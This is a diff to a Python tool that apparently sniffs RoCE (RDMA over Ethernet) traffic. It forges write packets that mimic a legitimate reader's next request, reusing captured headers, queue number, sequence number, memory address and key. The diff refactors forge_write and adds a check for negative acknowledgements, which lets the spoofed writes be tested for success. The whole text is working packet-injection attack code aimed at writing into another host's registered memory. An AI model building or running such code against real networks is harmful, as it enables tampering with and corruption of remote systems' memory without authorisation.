@@ -21,8 +21,9 @@ _ALL_PROTOCOLS = 0x0003
 _SO_RCVBUFFORCE = 33  # Python has no name for it
 _ROCE_PORT = 4791
 _WRITE_ONLY, _READ_REQUEST = 0x0A, 0x0C
-_RESPONSES = range(0x0D, 0x12)  # to reads, and acknowledgements
-_IP, _UDP, _BTH, _RETH, _PAYLOAD = 14, 54, 62, 74, 90
+_ACKNOWLEDGE = 0x11
+_RESPONSES = range(0x0D, _ACKNOWLEDGE + 1)  # to reads, and acknowledgements
+_IP, _UDP, _BTH, _RETH = 14, 54, 62, 74
 _QUIET_S = 0.5
 
 
@@ -37,12 +38,12 @@ class Reading:
     address: int
     key: int
 
-    def forge_write(self, payload: bytes, address: int, key: int) -> bytes:
+    def forge_write(self, payload: bytes, key: int) -> bytes:
         """Return the frame of a write that looks like the reader's next request."""
         assert len(payload) % 4 == 0
-        bth = struct.pack(">BBHII", _WRITE_ONLY, 0x40, 0xFFFF, self.queue, self.next_packet)
-        bth = bth[:8] + b"\x80" + bth[9:]  # wants to be acknowledged
-        body = bth + struct.pack(">QII", address, key, len(payload)) + payload
+        number = 1 << 31 | self.next_packet  # wants to be acknowledged
+        body = struct.pack(">BBHII", _WRITE_ONLY, 0x40, 0xFFFF, self.queue, number)
+        body += struct.pack(">QII", self.address, key, len(payload)) + payload
         size = 8 + len(body) + 4
         ip = self.request[_IP : _IP + 4] + struct.pack(">H", size) + self.request[_IP + 6 : _UDP]
         udp = self.request[_UDP : _UDP + 4] + struct.pack(">HH", size, 0)
@@ -110,6 +111,11 @@ def last_reading(frames: Sequence[bytes]) -> Reading:
     seen = [_packet(frame) for frame in frames if _queue(frame) == queue]
     seen += [_packet(frame) for frame in answers if _queue(frame) == reader]
     return Reading(request, queue, (max(seen) + 1) & 0xFFFFFF, address, key)
+
+
+def is_refusal(frame: bytes) -> bool:
+    """Whether it is a negative acknowledgement: syndrome 011…"""
+    return frame[_BTH] == _ACKNOWLEDGE and frame[_RETH] >> 5 == 0b011
 
 
 def _queue(frame: bytes) -> int:
